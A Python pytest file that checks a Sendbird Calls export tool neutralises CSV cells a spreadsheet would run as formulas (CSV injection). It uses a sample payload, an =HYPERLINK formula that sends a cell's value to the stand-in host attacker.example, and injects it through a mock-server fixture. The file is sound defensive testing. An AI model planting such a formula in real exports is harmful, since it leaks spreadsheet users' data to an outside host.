"""CSV cells a spreadsheet would run as formulas are neutralised (OWASP "CSV injection"), unless raw is asked.

The export runs for real (lock, checkpoint, file) over a stand-in API whose one page holds the
generated strings, and the file is read back with ``csv.reader``, as a spreadsheet import would.
"""

from __future__ import annotations

import csv
import io
import json
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from sendbird_calls.cli import cli
from sendbird_calls.export import FORMULA_STARTS, export, neutralise
from sendbird_calls.mock import CallsMockServer

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A2,"Click")'
FIELDS = ("call_id", "started_by", "end_result", "ended_by")


class OnePage:
    """A page of ``direct_calls.list`` as the client returns it: its items, no next token."""

    next_token = None

    def __init__(self, calls: list[dict[str, Any]]) -> None:
        self.items = calls

    def iter_pages(self) -> Iterator[OnePage]:
        yield self


class StandInApi:
    """``api.direct_calls.list(...)`` answering one page of the given calls."""

    def __init__(self, calls: list[dict[str, Any]]) -> None:
        self.direct_calls = self
        self._calls = calls

    def list(self, **_: Any) -> OnePage:
        return OnePage(self._calls)


def exported_rows(calls: list[dict[str, Any]], **options: Any) -> list[dict[str, str]]:
    """The CSV export of ``calls``, read back with ``csv.DictReader``."""
    with tempfile.TemporaryDirectory() as directory:
        output = Path(directory) / "calls.csv"
        result = export(StandInApi(calls), "direct-calls", output, format="csv", **options)
        text = output.read_bytes().decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert result.items == len(rows) == len(calls)
    return rows


cells = st.text(max_size=40) | st.sampled_from(FORMULA_STARTS).flatmap(
    lambda start: st.text(max_size=20).map(start.__add__)
)


@settings(max_examples=150)
@given(values=st.lists(st.tuples(*[cells] * len(FIELDS)), min_size=1, max_size=4))
def test_every_string_reads_back_as_its_neutralised_value_and_no_cell_starts_a_formula(
    values: list[tuple[str, ...]],
) -> None:
    calls = [dict(zip(FIELDS, row, strict=True)) for row in values]
    rows = exported_rows(calls)
    for call, row in zip(calls, rows, strict=True):
        for field in FIELDS:
            assert row[field] == neutralise(call[field])
            quoted = call[field].startswith(FORMULA_STARTS)
            assert row[field] == ("'" + call[field] if quoted else call[field])
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row.values())


@settings(max_examples=100)
@given(values=st.lists(st.tuples(*[cells] * len(FIELDS)), min_size=1, max_size=4))
def test_raw_cells_read_back_exactly_as_sent(values: list[tuple[str, ...]]) -> None:
    calls = [dict(zip(FIELDS, row, strict=True)) for row in values]
    for call, row in zip(calls, exported_rows(calls, csv_raw=True), strict=True):
        assert {field: row[field] for field in FIELDS} == call


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_each_formula_start_gets_a_single_quote(start: str) -> None:
    (row,) = exported_rows([{"call_id": f"{start}1+1", "started_by": HYPERLINK, "duration": -5}])
    assert row["call_id"] == f"'{start}1+1"
    assert row["started_by"] == "'" + HYPERLINK
    assert row["duration"] == "'-5"  # numbers too: OWASP's rule is about the cell, not its type


def test_safe_cells_and_json_cells_are_unchanged() -> None:
    call = {"call_id": "abc", "started_by": "user 'quoted'", "participants": [{"user_id": "=x"}], "is_video_call": True}
    (row,) = exported_rows([call])
    assert (row["call_id"], row["started_by"], row["is_video_call"]) == ("abc", "user 'quoted'", "true")
    assert json.loads(row["participants"]) == [{"user_id": "=x"}]  # inside JSON, the cell starts with [


def test_a_lone_surrogate_does_not_stop_the_export() -> None:
    """An emoji cut in half by a server (``"\\ud83d"``) is written as its escape, in both formats."""
    call = {"call_id": "half-\ud83d", "started_by": "u"}
    (row,) = exported_rows([call])
    assert row["call_id"] == "half-\\ud83d"
    with tempfile.TemporaryDirectory() as directory:
        output = Path(directory) / "calls.jsonl"
        export(StandInApi([call]), "direct-calls", output)
        assert json.loads(output.read_text(encoding="utf-8")) == call


def test_resume_keeps_the_cell_rule_of_the_export_it_continues(tmp_path: Path) -> None:
    class StopError(Exception):
        pass

    def stop(progress: Any) -> None:
        raise StopError

    output = tmp_path / "calls.csv"
    with pytest.raises(StopError):
        export(StandInApi([{"call_id": "=1"}]), "direct-calls", output, format="csv", csv_raw=True, on_page=stop)
    with pytest.raises(ValueError, match="csv_raw differ"):
        export(StandInApi([{"call_id": "=1"}]), "direct-calls", output, format="csv", resume=True)


@pytest.fixture
def hostile_server(monkeypatch: pytest.MonkeyPatch) -> Any:
    with CallsMockServer(app_id="csv-app", api_token="csv-token-1234", seed=1, users=4, calls=3) as server:
        seeded = server.state.call_json

        def call_json(index: int, **options: Any) -> dict[str, Any]:
            return {**seeded(index, **options), "started_by": HYPERLINK}

        monkeypatch.setattr(server.state, "call_json", call_json)
        monkeypatch.setenv("SENDBIRD_APP_ID", server.app_id)
        monkeypatch.setenv("SENDBIRD_API_TOKEN", server.api_token)
        monkeypatch.setenv("SENDBIRD_CALLS_BASE_URL", server.base_url)
        yield server


def test_the_command_neutralises_csv_by_default_writes_raw_with_csv_raw_and_leaves_jsonl_alone(
    hostile_server: CallsMockServer, tmp_path: Path
) -> None:
    def run(name: str, *options: str) -> Path:
        output = tmp_path / name
        result = CliRunner().invoke(cli, ["export", "direct-calls", "-o", str(output), *options])
        assert result.exit_code == 0, result.stderr
        return output

    def started_by(output: Path) -> set[str]:
        return {row["started_by"] for row in csv.DictReader(io.StringIO(output.read_text(), newline=""))}

    assert started_by(run("safe.csv")) == {"'" + HYPERLINK}
    assert started_by(run("raw.csv", "--csv-raw")) == {HYPERLINK}
    lines = run("calls.jsonl", "--csv-raw").read_text().splitlines()
    assert {json.loads(line)["started_by"] for line in lines} == {HYPERLINK}
    assert run("calls2.jsonl").read_text().splitlines() == lines
